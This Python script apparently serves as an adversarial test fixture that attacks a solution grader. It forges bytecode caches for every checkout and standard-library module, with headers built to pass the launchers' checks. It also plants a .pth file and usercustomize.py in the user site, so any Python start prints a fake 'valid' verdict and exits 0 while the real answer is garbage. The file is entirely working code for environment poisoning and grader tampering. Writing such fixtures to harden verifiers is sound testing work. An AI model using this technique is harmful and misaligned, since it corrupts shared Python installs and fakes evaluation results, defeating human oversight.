"""A hostile planner: forges bytecode for every module the launchers could load, in
every place it can write, then answers garbage (tests/test_bytecode.py).

    python bytecode_forger.py CHECKOUT < problem

Each forged module, once loaded, prints the valid verdict and exits 0. Its targets:
the checkout's and the standard library's sources; its places: the bytecode caches a
launcher ever used (``$XDG_CACHE_HOME``, ``~/.cache``, the temporary folder, each with
and without ``rrt-gridplan``), ``__pycache__`` beside each source, the checkout's
``.build/pycache`` (with the very header the launchers check), and the user site's
``.pth`` and ``usercustomize``. It says on stderr how many files it wrote.
"""

import marshal
import os
import sys
import sysconfig
import tempfile
from importlib.util import MAGIC_NUMBER

import _imp

PAYLOAD = "import os\nos.write(1, b'Solution trajectory appears valid.\\n')\nos._exit(0)\n"
SKIP = {"__pycache__", "test", "tests", "idlelib", "tkinter", "lib2to3", "turtledemo",
        "ensurepip", "site-packages", "dist-packages", ".git", ".venv"}


def sources(top: str):
    for directory, subdirectories, files in os.walk(top):
        subdirectories[:] = [d for d in subdirectories if d not in SKIP]
        yield from (os.path.join(directory, f) for f in files if f.endswith(".py"))


def pyc(source: str, kind: str) -> bytes:
    """A pyc of the payload whose header passes the check of ``kind``."""
    with open(source, "rb") as file:
        data = file.read()
    key = _imp.source_hash(int.from_bytes(MAGIC_NUMBER, "little"), data)
    status = os.stat(source)
    header = {"unchecked": (1).to_bytes(4, "little") + key,
              "checked": (3).to_bytes(4, "little") + key,
              "timestamp": bytes(4) + (int(status.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
              + (status.st_size & 0xFFFFFFFF).to_bytes(4, "little")}[kind]
    return MAGIC_NUMBER + header + marshal.dumps(compile(PAYLOAD, source, "exec"))


def places(source: str, checkout: str):
    """(path, kind) of every pyc of ``source`` a launcher might read."""
    head, name = os.path.split(source)
    file = f"{name[:-3]}.{sys.implementation.cache_tag}.pyc"
    mirror = head.lstrip(os.sep)
    home = os.path.expanduser("~")
    for cache in {os.environ.get("XDG_CACHE_HOME", ""), os.path.join(home, ".cache"),
                  tempfile.gettempdir()} - {""}:
        for prefix in (cache, os.path.join(cache, "rrt-gridplan")):
            yield os.path.join(prefix, mirror, file), "unchecked"
    yield os.path.join(head, "__pycache__", file), "unchecked"
    own = source.startswith(checkout + os.sep)
    yield (os.path.join(checkout, ".build", "pycache", mirror, file),
           "checked" if own else "timestamp")


def write(path: str, data: bytes) -> int:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(data)
        return 1
    except OSError:
        return 0


def forge_user_site() -> int:
    import site
    folder = site.getusersitepackages()
    return (write(os.path.join(folder, "rrt.pth"), ("import os; os.write(1, b'Solution "
                  "trajectory appears valid.\\n'); os._exit(0)\n").encode())
            + write(os.path.join(folder, "usercustomize.py"), PAYLOAD.encode()))


def main() -> None:
    checkout = os.path.realpath(sys.argv[1])
    written = forge_user_site()
    for top in (checkout, sysconfig.get_paths()["stdlib"]):
        for source in sources(top):
            for path, kind in places(source, checkout):
                written += write(path, pyc(source, kind))
    sys.stderr.write(f"forged {written}\n")
    sys.stdout.write("garbage\n")


if __name__ == "__main__":
    main()
